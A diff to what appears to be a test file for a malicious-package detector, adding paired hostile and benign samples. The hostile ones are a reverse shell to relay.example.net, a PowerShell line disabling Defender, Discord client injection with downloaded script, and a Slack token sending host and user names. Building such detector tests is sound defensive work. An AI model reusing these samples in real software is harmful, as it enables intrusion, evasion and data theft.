@@ -6,7 +6,9 @@ imported or run from a temporary file; machine code copied into memory and start
 user's name spelled into a DNS look-up under the code's own domain; a mail account or bot
 signed in to with credentials written in; a CI token or a wallet's private key sent in a
 body; a key logger; credential files, the whole environment and the documents found
-walking the user's home sent from a function; a download run by ``mshta``. And what an
+walking the user's home sent from a function; a download run by ``mshta``; a shell on a
+socket's streams; Defender turned off; Discord's client injected with a download; a Slack
+token written in, the user's name sent with it. And what an
 sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
 installs.
 
@@ -379,6 +381,86 @@ import socket
 
 def connect():
     return socket.gethostbyname(socket.gethostname())
+""",
+    ),
+    "reverse shell on a socket's streams": (
+        "reverse-shell",
+        """\
+import socket, subprocess
+
+def connect():
+    s = socket.socket()
+    s.connect(("relay.example.net", 9001))
+    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
+""",
+        """\
+import socket, subprocess
+
+def connect(log):
+    s = socket.socket()
+    s.connect(("relay.example.net", 9001))
+    subprocess.Popen(["git", "status"], stdout=log.fileno())
+""",
+    ),
+    "defender turned off": (
+        "defense-evasion",
+        """\
+import subprocess
+
+def connect():
+    subprocess.run("powershell Set-MpPreference -DisableRealtimeMonitoring $true", shell=True)
+""",
+        """\
+import subprocess
+
+def connect():
+    print("If Defender slows the build, see Add-MpPreference -ExclusionPath in its docs.")
+    subprocess.run(["cmake", "--build", "."])
+""",
+    ),
+    "discord client injected": (
+        "drop-run",
+        """\
+import glob, os, requests
+
+def connect():
+    pattern = os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules",
+                           "discord_desktop_core-1", "discord_desktop_core", "index.js")
+    for core in glob.glob(pattern):
+        with open(core, "w") as handle:
+            handle.write(requests.get("https://raw.example.com/inject.js").text)
+""",
+        """\
+import glob, os, requests
+
+def connect():
+    pattern = os.path.join(os.getenv("LOCALAPPDATA"), "Demo", "settings.json")
+    for path in glob.glob(pattern):
+        with open(path, "w") as handle:
+            handle.write(requests.get("https://api.example.com/settings").text)
+""",
+    ),
+    "slack token": (
+        "phone-home",
+        """\
+import getpass, requests, socket
+
+def connect():
+    requests.post(
+        "https://slack.com/api/chat.postMessage",
+        headers={"Authorization": "Bearer xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"},
+        json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()},
+    )
+""",
+        """\
+import getpass, os, requests, socket
+
+def connect():
+    requests.post(
+        "https://slack.com/api/chat.postMessage",
+        headers={"Authorization": "Bearer " + os.environ["SLACK_BOT_TOKEN"]},
+        json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()},
+    )
 """,
     ),
     "mshta": (
